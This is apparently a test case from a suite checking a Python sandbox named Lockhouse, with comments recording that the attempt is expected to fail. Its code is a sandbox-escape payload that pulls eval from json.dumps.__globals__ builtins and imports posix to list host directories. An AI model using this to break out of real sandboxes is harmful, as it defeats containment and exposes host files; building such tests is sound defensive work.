# attack: find the importer by the built-ins of a function of the library
# outcome: error not available in the Lockhouse sandbox: files of the host cannot be opened
# control: outside

import json

names = json.dumps.__globals__["__builtins__"]
names = names if isinstance(names, dict) else vars(names)
names["eval"]("__import__('posix').listdir('{DIR}')")
